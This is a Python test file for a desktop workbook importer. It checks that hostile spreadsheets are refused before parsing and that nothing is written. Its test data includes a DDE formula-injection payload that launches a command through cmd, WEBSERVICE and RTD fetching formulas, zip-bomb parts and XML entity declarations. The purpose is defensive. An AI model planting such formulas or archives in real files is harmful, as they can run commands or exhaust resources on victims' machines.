"""Hostile workbooks are refused before they are parsed, with one message, and nothing is
written: zip bombs, entity declarations, sheets reaching far (a cell a million rows away),
links to other files, formulas that fetch, files that only carry a workbook's name, and
numbers too large for any arithmetic."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from interop_data import TEMPLATE, UNIT
from libreoffice import SOFFICE, convert
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]
from xlsb_writer import write_xlsb

from zi_desktop.cli.main import main
from zi_desktop.errors import UserFacingError
from zi_desktop.interop import limits
from zi_desktop.interop.reader import read_workbook
from zi_desktop.interop.workbook import open_workbook
from zi_desktop.lke.model import Definition
from zi_desktop.services.workspace import Workspace

SHEET_XML = "xl/worksheets/sheet3.xml"  # LKE ZI of the shipped form
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def rebuilt(path: Path, replace: dict[str, bytes], add: dict[str, bytes] | None = None) -> Path:
    """The shipped form with parts replaced or added."""
    source = zipfile.ZipFile(TEMPLATE)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            out.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, data in (add or {}).items():
            out.writestr(name, data)
    return path


def sheet_with(cells: str) -> bytes:
    return (
        f'<?xml version="1.0"?><worksheet {_NS}><sheetData>{cells}</sheetData></worksheet>'.encode()
    )


def hostile_files(folder: Path) -> dict[str, Path]:
    """Each file, and a part of the message it must get."""
    form = zipfile.ZipFile(TEMPLATE).read(SHEET_XML)
    entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>'
    files = {
        "unpacks to 40,0 MB": rebuilt(
            folder / "big-part.xlsx", {}, {"xl/media/blob.bin": bytes(40 * limits.MIB)}
        ),
        "zip bomb": rebuilt(
            folder / "ratio.xlsx",
            {},
            {"xl/strings2.xml": b"<a>" + b"a" * (8 * limits.MIB) + b"</a>"},
        ),
        "spans 1000000 rows by 16384 columns": rebuilt(
            folder / "far.xlsx",
            {
                SHEET_XML: sheet_with(
                    '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
                    '<row r="1000000"><c r="XFD1000000" t="inlineStr"><is><t>b</t></is></c></row>'
                )
            },
        ),
        "spans 300000 rows by 20 columns": rebuilt(
            folder / "tall.xlsx",
            {
                SHEET_XML: sheet_with(
                    "".join(f'<row r="{r}"><c r="T{r}"><v>1</v></c></row>' for r in (1, 300000))
                )
            },
        ),
        "cells without references": rebuilt(
            folder / "noref.xlsx", {SHEET_XML: sheet_with('<row r="2000000"><c><v>1</v></c></row>')}
        ),
        "declares XML entities": rebuilt(
            folder / "entity.xlsx", {SHEET_XML: entity + form[form.index(b"<worksheet") :]}
        ),
        "links to other files": rebuilt(
            folder / "link.xlsx", {}, {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
        ),
        "(WEBSERVICE": rebuilt(
            folder / "web.xlsx",
            {
                SHEET_XML: form.replace(
                    b"<f>L198</f>", b'<f>WEBSERVICE("http://example.invalid/"&amp;B2)</f>', 1
                )
            },
        ),
        "(DDE": rebuilt(
            folder / "dde.xlsx",
            {SHEET_XML: form.replace(b"<f>L198</f>", b"<f>cmd|' /C calc'!A0</f>", 1)},
        ),
        "(RTD": rebuilt(
            folder / "rtd.xlsx",
            {SHEET_XML: form.replace(b"<f>L198</f>", b'<f>_xlfn.RTD("prog.id",,"x")</f>', 1)},
        ),
        "a web page (HTML)": folder / "page.xls",
        "a text file (such as CSV)": folder / "table.xls",
        "not a file": folder / "a-folder.xlsx",
    }
    files["a web page (HTML)"].write_text("<html><body><table><tr><td>Ya</td></tr></table>")
    files["a text file (such as CSV)"].write_text("No;Pertanyaan;Jawaban\n1;Tim;Ya\n")
    files["not a file"].mkdir()
    files["noref"] = files.pop("cells without references")
    return files


def test_the_hostile_files_are_understood_by_the_check() -> None:
    # the hostile formulas really stand in the sheet that is checked
    assert b"<f>L198</f>" in zipfile.ZipFile(TEMPLATE).read(SHEET_XML)


def test_each_hostile_workbook_is_refused_with_its_message(
    definition: Definition, tmp_path: Path
) -> None:
    for expected, path in hostile_files(tmp_path).items():
        with pytest.raises(UserFacingError) as refused:
            read_workbook(path, definition)
        if expected != "noref":
            assert expected in refused.value.message, (path.name, refused.value.message)


def test_hostile_workbooks_exit_2_and_change_nothing(
    ws_folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with Workspace.open(ws_folder, create=False) as ws:
        before = ws.open_assessment(UNIT.code).answers
    for path in hostile_files(tmp_path).values():
        args = [
            "--lang",
            "en",
            "import-excel",
            str(path),
            "--workspace",
            str(ws_folder),
            "--unit",
            UNIT.code,
            "--tier",
            "unit",
            "--yes",
        ]
        assert main(args) == 2, path.name
        captured = capsys.readouterr()
        assert captured.out == "" and captured.err.count("\n") == 1, captured.err
    with Workspace.open(ws_folder, create=False) as ws:
        assert ws.open_assessment(UNIT.code).answers == before


def test_a_sheet_reaching_far_in_xlsb_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "far.xlsb"
    write_xlsb([("LKE ZI", True, {0: {0: "a"}, 1_048_000: {16_000: "b"}})], path)
    with pytest.raises(UserFacingError, match="spans 1048001 rows by 16001 columns"):
        open_workbook(path)
    near = tmp_path / "near.xlsb"
    write_xlsb([("LKE ZI", True, {0: {0: "a"}, 4_000: {15: "b"}})], near)
    assert open_workbook(near).rows("LKE ZI")[4_001][15] == "b"


@pytest.mark.libreoffice
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
def test_far_cells_entities_and_fetching_formulas_in_xls_and_ods(tmp_path: Path) -> None:
    book = Workbook()
    book.active.title = "S"
    book.active["A1"] = "a"
    book.active["IV65536"] = "b"  # the last cell of an .xls sheet
    far = tmp_path / "far.xlsx"
    book.save(far)
    book.active["IV65536"] = None
    book.active["B2"] = '=WEBSERVICE("http://example.invalid/")'
    web = tmp_path / "web.xlsx"
    book.save(web)
    out, profile = tmp_path / "out", tmp_path / "profile"
    far_xls, web_xls = convert([far, web], "xls", out, profile)
    far_ods, web_ods = convert([far, web], "ods", out, profile)
    for path in (far_xls, far_ods):
        with pytest.raises(UserFacingError, match="spans 65536 rows by 256 columns"):
            open_workbook(path)
    # (LibreOffice's .xls leaves no name of WEBSERVICE to recognise: read, never calculated)
    assert open_workbook(web_xls).rows("S")[1][0] == "a"
    with pytest.raises(UserFacingError, match="WEBSERVICE"):
        open_workbook(web_ods)
    # OpenDocument: a cell repeated a million times, and an entity declaration
    content = zipfile.ZipFile(far_ods).read("content.xml")
    million = b'<table:table-row table:number-rows-repeated="1000000">'
    repeated = re.sub(rb"<table:table-row[^>]*>", million, content, count=1)
    entity = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "a">]>'
        + content[content.index(b"<office") :]
    )
    for name, data, message in (
        ("rows.ods", repeated, "spans"),
        ("entity.ods", entity, "entities"),
    ):
        path = tmp_path / name
        with zipfile.ZipFile(far_ods) as source, zipfile.ZipFile(path, "w") as target:
            for info in source.infolist():
                target.writestr(info, data if info.filename == "content.xml" else source.read(info))
        with pytest.raises(UserFacingError, match=message):
            open_workbook(path)


@pytest.mark.parametrize(
    "value",
    [
        "1e999999999",
        "0e999999999",
        "1e-999999999",
        "9" * 200,
        "1" + "0" * 70,
        1e300,
        5e-324,
        "12345678901234567",
    ],
)
def test_numbers_too_large_are_refused_at_once(
    definition: Definition, tmp_path: Path, value: object
) -> None:
    book = load_workbook(TEMPLATE)
    sheet = book["LKE ZI"]
    sheet["K129"] = value  # a count
    sheet["K202"] = value  # a survey index
    sheet["K178"] = value  # the LHKPN "Jumlah yang harus melaporkan" total, compared
    path = tmp_path / "numbers.xlsx"
    book.save(path)
    plan = read_workbook(path, definition)
    rejected = {f.node_id: f.message for f in plan.rejected}
    assert set(rejected) == {"A.II.1.i.a.1", "B.I.a"}
    assert all("too many digits or too large an exponent" in m for m in rejected.values())
    assert plan.answers == {}


def test_a_plain_large_count_is_still_a_count(definition: Definition, tmp_path: Path) -> None:
    book = load_workbook(TEMPLATE)
    book["LKE ZI"]["K129"] = "1e3"
    book["LKE ZI"]["K130"] = 123456789.0
    path = tmp_path / "counts.xlsx"
    book.save(path)
    plan = read_workbook(path, definition)
    assert plan.answers == {"A.II.1.i.a.1": 1000, "A.II.1.i.a.2": 123456789}


def test_a_checked_file_is_the_file_read(tmp_path: Path) -> None:
    """The file is read once: the checks and the reader see the same bytes."""
    data = io.BytesIO(TEMPLATE.read_bytes())
    path = tmp_path / "once.xlsx"
    path.write_bytes(data.getvalue())
    book = open_workbook(path)
    path.write_bytes(b"replaced after the check")
    assert "LKE ZI" in book.sheet_names and book.rows("LKE ZI")[8][6].startswith("Unit kerja")
